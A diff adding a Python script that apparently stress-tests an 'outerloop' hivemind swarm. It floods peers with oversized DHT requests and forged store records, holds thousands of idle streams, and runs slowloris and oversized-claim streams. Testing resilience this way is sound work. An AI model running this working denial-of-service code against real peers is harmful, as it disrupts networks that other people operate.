@@ -1,0 +1,160 @@
+"""One stranger, a process of its own: it does to peers what anybody who can dial them may do, for so many seconds.
+
+    .venv/bin/python scripts/attack_stranger.py --seconds 60 --mbit 100 ADDRESS ...
+
+    floods    DHT requests of 1.3 MB: one key asked for 60,000 times, 8,000 records in the peer's own name with a
+              wrong signature
+    idle      2,000 streams that are opened and say nothing; opened again when they are closed
+    claims    streams that announce 1 GiB and send what the rate allows
+    loris     100 streams that send a byte a second of a message
+
+All that is sent is paced together. What was done goes to standard output as one line of JSON.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import json
+import os
+import resource
+import time
+from collections import Counter
+from collections.abc import Awaitable, Callable
+from contextlib import suppress
+from itertools import cycle
+
+from hivemind.dht.routing import DHTID
+from hivemind.p2p import P2P, PeerID
+from hivemind.proto import dht_pb2
+from hivemind.utils import MSGPackSerializer
+from hivemind.utils.multiaddr import Multiaddr
+
+from outerloop.swarm.pace import Pace
+
+IDLE, CLAIMS, LORIS = 2000, 8, 100
+KEYS, RECORDS = 60_000, 8_000
+CLAIMED_BYTES = 1 << 30
+PIECE = bytes(64 * 1024)
+AGAIN_S = 5.0
+"""Pause before a stream that was closed is opened again, and after a request that was refused."""
+WORDS = ("probe", "default/members", "default/setting", "default/ballot", "default/payload", "default/commits",
+         "default/snapshot", "default/pull")  # fmt: skip
+PROTOCOLS = [f"outerloop/1/{word}" for word in WORDS]
+
+
+class Stranger:
+    """Counts what it did and what came of it."""
+
+    def __init__(self, p2p: P2P, victims: list[PeerID], *, mbit: float) -> None:
+        self.p2p, self.victims, self.pace = p2p, victims, Pace(mbit * 1e6 / 8)
+        self.done: Counter[str] = Counter()
+
+    async def attack(self, seconds: float) -> None:
+        """All of it at once, for so long."""
+        places = zip(cycle(self.victims), cycle(PROTOCOLS), range(IDLE + CLAIMS + LORIS), strict=False)
+        ways = [self.idle] * IDLE + [self.claim] * CLAIMS + [self.loris] * LORIS
+        streams = [self.again(way, victim, protocol) for way, (victim, protocol, _) in zip(ways, places, strict=True)]
+        work = asyncio.gather(*streams, *(self.again(self.flood, victim, "") for victim in self.victims))
+        with suppress(TimeoutError):
+            async with asyncio.timeout(seconds):
+                await work
+
+    async def again(self, way: Callable[[PeerID, str], Awaitable[None]], victim: PeerID, protocol: str) -> None:
+        """Over and over, whatever comes of it."""
+        while True:
+            try:
+                await way(victim, protocol)
+            except Exception as error:  # whatever the other side or the daemon makes of it
+                self.done[f"{way.__name__}: {type(error).__name__}"] += 1
+            await asyncio.sleep(AGAIN_S)
+
+    async def idle(self, victim: PeerID, protocol: str) -> None:
+        _, reader, writer = await self.p2p.call_binary_stream_handler(victim, protocol)
+        self.done["idle: opened"] += 1
+        try:
+            while await reader.read(1024):
+                pass
+        finally:
+            writer.close()
+
+    async def claim(self, victim: PeerID, protocol: str) -> None:
+        await self.send(victim, protocol, CLAIMED_BYTES, PIECE, pause_s=0.0)
+
+    async def loris(self, victim: PeerID, protocol: str) -> None:
+        await self.send(victim, protocol, 1000, b"x", pause_s=1.0)
+
+    async def send(self, victim: PeerID, protocol: str, claimed: int, piece: bytes, *, pause_s: float) -> None:
+        """Announce so many bytes, then send pieces until the other side closes."""
+        _, reader, writer = await self.p2p.call_binary_stream_handler(victim, protocol)
+        closed = asyncio.create_task(reader.read(1))
+        try:
+            writer.write(claimed.to_bytes(8, "big") + os.urandom(32))
+            while not closed.done():
+                await self.pace.take(len(piece))
+                writer.write(piece)
+                await writer.drain()
+                self.done["bytes"] += len(piece)
+                await asyncio.sleep(pause_s)
+        finally:
+            closed.cancel()
+            writer.close()
+
+    async def flood(self, victim: PeerID, _: str) -> None:
+        """One request of each kind; each comes under another node id."""
+        own = dht_pb2.NodeInfo(node_id=DHTID.generate().to_bytes())
+        key = DHTID.generate("outerloop/default/roster").to_bytes()
+        find = dht_pb2.FindRequest(keys=[key] * KEYS, peer=own)
+        store = dht_pb2.StoreRequest(
+            keys=[key] * RECORDS,
+            subkeys=[MSGPackSerializer.dumps(victim.to_base58())] * RECORDS,  # claims a listed owner
+            values=[bytes(100)] * RECORDS,
+            expiration_time=[time.time() + 60] * RECORDS,
+            in_cache=[False] * RECORDS,
+            peer=own,
+        )
+        for name, request, answer in (
+            ("rpc_find", find, dht_pb2.FindResponse),
+            ("rpc_store", store, dht_pb2.StoreResponse),
+        ):
+            await self.pace.take(request.ByteSize())
+            self.done["bytes"] += request.ByteSize()
+            self.done[name] += 1
+            async with asyncio.timeout(AGAIN_S):
+                await self.p2p.call_protobuf_handler(victim, f"DHTProtocol.{name}", request, answer)
+            self.done[f"{name}: answered"] += 1
+
+
+async def run(addresses: list[str], *, seconds: float, mbit: float) -> Counter[str]:
+    """Attack the peers at these addresses."""
+    victims = [PeerID.from_base58(address.rpartition("/p2p/")[2]) for address in addresses]
+    p2p = await P2P.create(
+        initial_peers=[Multiaddr(address) for address in addresses], dht_mode="client", auto_nat=False,
+        nat_port_map=False, use_relay=False, idle_timeout=3600, startup_timeout=60,
+    )  # fmt: skip
+    stranger = Stranger(p2p, victims, mbit=mbit)
+    try:
+        await stranger.attack(seconds)
+    finally:
+        await p2p.shutdown()
+    return stranger.done
+
+
+def main() -> None:
+    """Say what was done, and the CPU time that it took here."""
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("addresses", nargs="+", metavar="ADDRESS")
+    parser.add_argument("--seconds", type=float, default=60.0)
+    parser.add_argument("--mbit", type=float, default=100.0)
+    args = parser.parse_args()
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    os.nice(19)  # what it computes itself shall not be taken for what it does to others
+    done = asyncio.run(run(args.addresses, seconds=args.seconds, mbit=args.mbit))
+    cpu = [resource.getrusage(who) for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
+    cpu_s = sum(one.ru_utime + one.ru_stime for one in cpu)
+    print(json.dumps({**done, "mbit_s": round(done["bytes"] * 8e-6 / args.seconds, 1), "cpu_s": round(cpu_s, 1)}))
+
+
+if __name__ == "__main__":
+    main()
